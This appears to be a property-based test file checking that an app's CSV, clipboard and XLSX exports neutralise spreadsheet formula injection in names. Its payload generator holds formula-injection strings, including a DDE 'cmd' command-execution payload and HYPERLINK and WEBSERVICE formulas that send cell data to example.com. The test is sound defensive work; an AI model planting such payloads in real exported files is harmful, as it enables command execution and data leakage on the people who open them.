import { strFromU8, unzipSync } from 'fflate';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { put } from '#lib/domain/edit.ts';
import { writerFor } from '#lib/formats/index.ts';
import { engagementList, engagementListTabs, partyList } from '#lib/formats/csv-writers.ts';
import { csvText } from '#lib/panels/analysis/measures/csv.ts';
import { copied } from '#lib/state/clipboard.ts';
import { network, party, partyId } from '../../support/diagrams.ts';
import { openedSession } from '../../support/session.ts';

/** Names that a spreadsheet would run, or pass on to what runs them. */
const payload = fc
  .tuple(
    fc.constantFrom('', ' ', '\t', '\r', '\n', '\0', '"', "'", ';', ',', '\ufeff'),
    fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', '=\t', '=-', '@@'),
    fc.constantFrom(
      'cmd|" /C calc"!A0',
      'HYPERLINK("https://example.com?"&A1,"x")',
      'SUM(1+1)*cmd',
      'WEBSERVICE("https://example.com")',
      '1',
      '"',
      '<f>1</f>'
    )
  )
  .map((parts) => parts.join(''));

/** The cells that a spreadsheet would take for formulas. The separator is given: a guess takes a tab in a name for it. */
function formulasIn(text: string, delimiter: string): string[] {
  const { data } = Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { delimiter });
  return data.flat().filter((cell) => /^[\s\ufeff]*[=+\-@\0＝＋－＠]/.test(cell));
}

const named = (name: string) => put(network(['a > b']), 'parties', party('a', { name }));

describe('a name that a spreadsheet would run', () => {
  it.each(['engagementList', 'engagementListTabs', 'partyList'] as const)(
    'is text in the %s',
    (name) => {
      const writer = { engagementList, engagementListTabs, partyList }[name];
      fc.assert(
        fc.property(payload, (text) => {
          const { content } = writer.write(named(text), 'en');
          const written = typeof content === 'string' ? content : strFromU8(content);
          expect(written.split('\n').length).toBeGreaterThan(2);
          const separator = name === 'engagementListTabs' ? '\t' : ',';
          expect(formulasIn(written, separator)).toEqual([]);
        }),
        { numRuns: 200 }
      );
    }
  );

  it('is text in a table of measures', () => {
    fc.assert(
      fc.property(payload, (text) => {
        expect(
          formulasIn(
            csvText([
              ['name', 'value'],
              [text, 0.5]
            ]),
            ','
          )
        ).toEqual([]);
      }),
      { numRuns: 200 }
    );
  });

  it('is text in a copy on the clipboard', () => {
    fc.assert(
      fc.property(payload, (text) => {
        for (const name of [text, `"${text}"`]) {
          const { session } = openedSession(named(name));
          session.select([partyId('a'), partyId('b')]);
          expect(formulasIn(copied(session)!.plain, '\t')).toEqual([]);
          session.select([partyId('a')]);
          expect(formulasIn(copied(session)!.plain, '\t')).toEqual([]);
        }
      }),
      { numRuns: 200 }
    );
  });

  it('is text in a workbook', () => {
    const writer = writerFor('a.xlsx')!;
    fc.assert(
      fc.property(fc.array(payload, { minLength: 20, maxLength: 20 }), (texts) => {
        const diagram = texts.reduce(
          (into, name, i) => put(into, 'parties', party(`p${String(i)}`, { name })),
          network(['a > b'])
        );
        const { content } = writer.write(diagram, 'en');
        const files = unzipSync(content as Uint8Array);
        const sheets = Object.keys(files).filter((file) => file.startsWith('xl/worksheets/'));
        expect(sheets.length).toBeGreaterThan(0);
        for (const file of sheets) expect(strFromU8(files[file]!)).not.toMatch(/<f[ >]/);
      }),
      { numRuns: 10 }
    );
  });

  it('is found out where a writer leaves it as it is', () => {
    expect(formulasIn(Papa.unparse([['name'], ['=1+1'], [' @A1'], ['plain']]), ',')).toEqual([
      '=1+1',
      ' @A1'
    ]);
  });
});
